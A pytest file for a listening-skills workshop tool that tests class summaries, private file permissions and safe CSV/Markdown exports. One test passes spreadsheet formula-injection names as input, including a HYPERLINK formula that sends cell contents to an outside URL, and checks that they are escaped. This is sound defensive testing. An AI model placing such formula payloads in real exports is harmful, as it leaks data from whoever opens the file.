"""The class summary from known feedback, and its exports read back as a facilitator would."""

from __future__ import annotations

import csv
import io
import stat
from datetime import datetime
from pathlib import Path

import pytest

from listen_trainer.content.library import Rubric
from listen_trainer.content.models import Category, Verdict
from listen_trainer.scoring import Feedback, Flag, Heard, Skills
from listen_trainer.workshop import Entry, summarise
from listen_trainer.workshop.export import export, labels_for

SKILLS = ("reflect_feeling", "reflect_content", "validate", "explore", "presence")


def feedback(score: int, roadblocks: tuple[Category, ...] = (), **skills: float) -> Feedback:
    values = {name: skills.get(name, 0.5) for name in SKILLS}
    values["avoid_roadblocks"] = skills.get("avoid_roadblocks", 0.5)
    flags = [
        Flag(category=c, start=0, end=1, text="x", rule=f"r{i}", message="m")
        for i, c in enumerate(roadblocks)
    ]
    verdict = Verdict(roadblocks[0].value) if roadblocks else Verdict.ATTUNED
    return Feedback(
        score=score,
        verdict=verdict,
        depth=3,
        skills=Skills(**values),
        flags=flags,
        suggestions=[],
        rewrite="",
        heard=Heard(
            surface=[], underlying=[], named_surface=[], named_underlying=[], content_touched=[]
        ),
        engine_version="test",
    )


FIX, MIN = Category.FIXING, Category.MINIMISING
ENTRIES = [
    # Ann: fixes twice (two flags in one reply count once), then reflects feeling.
    Entry("Ann", 1, "a", feedback(30, (FIX, FIX), reflect_feeling=0.0)),
    Entry("Ann", 2, "b", feedback(40, (FIX, MIN), reflect_feeling=0.2)),
    Entry("Ann", 3, "c", feedback(60, (MIN,), reflect_feeling=0.6)),
    Entry("Ann", 4, "d", feedback(90, (), reflect_feeling=1.0, explore=0.6)),
    # Bo: two replies, explore rises most; one round missed.
    Entry("Bo", 1, "e", feedback(50, (MIN,), explore=0.0)),
    Entry("Bo", 2, "", None, timed_out=True),
    Entry("Bo", 3, "f", feedback(70, (), explore=1.0)),
    # Cy: one reply only, so nothing to call improved.
    Entry("Cy", 1, "g", feedback(80, ())),
]


def test_each_participant_gets_attempts_average_roadblock_and_improvement() -> None:
    summary = summarise(ENTRIES, ["Ann", "Bo", "Cy", "Dee"], title="Tuesday")
    ann, bo, cy, dee = summary.people
    assert (ann.attempts, ann.missed, ann.average) == (4, 0, 55.0)
    # Fixing in 2 replies, minimising in 2: the tie goes to the first in the alphabet.
    assert (ann.roadblock, ann.roadblock_count) == ("fixing", 2)
    # reflect_feeling: first half 0.1, second half 0.8.
    assert ann.improved == "reflect_feeling" and ann.rise == pytest.approx(0.7)
    assert (bo.attempts, bo.missed, bo.average, bo.roadblock) == (2, 1, 60.0, "minimising")
    assert bo.improved == "explore" and bo.rise == pytest.approx(1.0)
    assert (cy.attempts, cy.roadblock, cy.improved) == (1, None, None)
    assert (dee.attempts, dee.average, dee.improved) == (0, None, None)


def test_the_class_row_pools_everyone() -> None:
    everyone = summarise(ENTRIES, ["Ann", "Bo", "Cy"]).everyone
    assert (everyone.attempts, everyone.missed) == (7, 1)
    assert everyone.average == pytest.approx((30 + 40 + 60 + 90 + 50 + 70 + 80) / 7, abs=0.05)
    assert everyone.roadblock == "minimising"  # in 3 replies; fixing in 2
    # Rises averaged over Ann and Bo: explore (0.05 + 1.0) / 2 beats reflect_feeling 0.7 / 2.
    assert everyone.improved == "explore" and everyone.rise == pytest.approx(0.525)


def test_exports_read_back_and_are_private(tmp_path: Path, rubric: Rubric) -> None:
    summary = summarise(ENTRIES, ["Ann", "Bo", "Cy"], title="Tuesday | group")
    labels = labels_for(rubric, {"reflect_feeling": "Reflect feeling", "explore": "Explore"})
    folder = tmp_path / "out"
    csv_path, md_path = export(summary, labels, folder, "tuesday", datetime(2026, 3, 3, 19, 30))

    rows = list(csv.DictReader(io.StringIO(csv_path.read_text(encoding="utf-8"))))
    assert [(r["scope"], r["name"]) for r in rows] == [
        ("participant", "Ann"),
        ("participant", "Bo"),
        ("participant", "Cy"),
        ("class", "Whole class"),
    ]
    assert rows[0]["average_score"] == "55.0"
    assert rows[0]["most_common_roadblock"] == rubric.categories[FIX].label
    assert rows[0]["most_improved_skill"] == "Reflect feeling"
    assert rows[0]["skill_rise_points"] == "+70"
    assert rows[1]["no_reply"] == "1"
    assert rows[2]["most_improved_skill"] == ""

    handout = md_path.read_text(encoding="utf-8")
    for name in ("Ann", "Bo", "Cy"):
        assert f"| {name} |" in handout
    assert "| **Whole class** | **7** |" in handout
    assert "Tuesday / group" in handout  # a typed "|" cannot break the table
    assert rubric.categories[MIN].instead in handout
    assert "a" not in {line.strip() for line in handout.splitlines()}  # no replies in it

    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    for path in (csv_path, md_path):
        assert stat.S_IMODE(path.stat().st_mode) == 0o600


def test_exports_make_private_folders_refuse_formulas_and_never_replace(
    tmp_path: Path, rubric: Rubric
) -> None:
    import os

    names = ['=HYPERLINK("http://example.com/?d="&A1,"open")', "+1", "@SUM(A1)", "-2", "Dee"]
    entries = [Entry(name, 1, "r", feedback(50 + i, (FIX,))) for i, name in enumerate(names)]
    summary = summarise(entries, names, title="Friday")
    labels = labels_for(rubric)
    folder = tmp_path / "new" / "deeper"
    when = datetime(2026, 3, 6, 10, 15)
    old = os.umask(0)
    try:
        first = export(summary, labels, folder, "friday", when)
        second = export(summary, labels, folder, "friday", when)
    finally:
        os.umask(old)

    for level in (tmp_path / "new", folder):
        assert stat.S_IMODE(level.stat().st_mode) == 0o700
    # The second export in the same minute gets its own files; the first is kept.
    assert second[0] != first[0] and second[1] != first[1]
    assert {p.name for p in folder.iterdir()} == {
        "friday-20260306-1015.csv",
        "friday-20260306-1015.md",
        "friday-20260306-1015-2.csv",
        "friday-20260306-1015-2.md",
    }
    rows = list(csv.DictReader(io.StringIO(first[0].read_text(encoding="utf-8"))))
    cells = [r["name"] for r in rows if r["scope"] == "participant"]
    assert cells == ["'" + names[0], "'+1", "'@SUM(A1)", "'-2", "Dee"]
    assert all(not r["most_common_roadblock"].startswith("=") for r in rows)
